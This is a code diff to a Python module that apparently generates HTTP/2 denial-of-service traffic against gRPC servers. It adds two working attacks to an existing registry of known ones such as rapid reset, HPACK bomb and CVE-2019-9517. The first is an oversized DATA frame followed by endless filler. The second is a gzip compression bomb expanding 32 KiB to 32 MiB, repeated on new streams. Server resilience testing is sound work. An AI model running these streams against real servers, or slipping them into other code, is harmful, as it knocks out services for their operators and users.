@@ -5,6 +5,7 @@ Most of them have stopped well-known servers; the CVE numbers are those of the r
 
 from __future__ import annotations
 
+import zlib
 from collections.abc import Callable, Iterator
 from itertools import count
 
@@ -124,6 +125,25 @@ def byte_windows(path: bytes) -> Pieces:
         yield frame(WINDOW_UPDATE, 0, 1, U32.pack(1))
 
 
+def giant_frames(path: bytes) -> Pieces:
+    """A call whose DATA frame announces the 16 MiB that three bytes can say."""
+    yield frame(HEADERS, END_HEADERS, 1, head(path))
+    yield b"\xff\xff\xff" + bytes([DATA, 0]) + U32.pack(1)
+    while True:
+        yield bytes(16_000)
+
+
+def compression_bomb(path: bytes) -> Pieces:
+    """Calls whose 32 KiB expand to 32 MiB."""
+    packer = zlib.compressobj(9, wbits=16 + zlib.MAX_WBITS)
+    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(32)) + packer.flush()
+    message, block = b"\1" + U32.pack(len(packed)) + packed, head(path, (b"grpc-encoding", b"gzip"))
+    cut = [message[at : at + 16_000] for at in range(0, len(message), 16_000)]
+    for number in count(1, 2):
+        data = [frame(DATA, END_STREAM if piece is cut[-1] else 0, number, piece) for piece in cut]
+        yield frame(HEADERS, END_HEADERS, number, block) + b"".join(data)
+
+
 def no_windows(path: bytes) -> Pieces:
     """CVE-2019-9517: calls whose answers the client never reads."""
     yield settings({INITIAL_WINDOW_SIZE: 0})
@@ -134,6 +154,6 @@ ATTACKS: dict[str, Callable[[bytes], Pieces]] = {
     attack.__name__: attack
     for attack in (
         rapid_reset, made_to_reset, continuations, hpack_bomb, header_flood, pings, empty_settings, full_settings,
-        priorities, empty_data, tiny_data, byte_windows, no_windows,
+        priorities, empty_data, tiny_data, byte_windows, giant_frames, compression_bomb, no_windows,
     )
 }  # fmt: skip
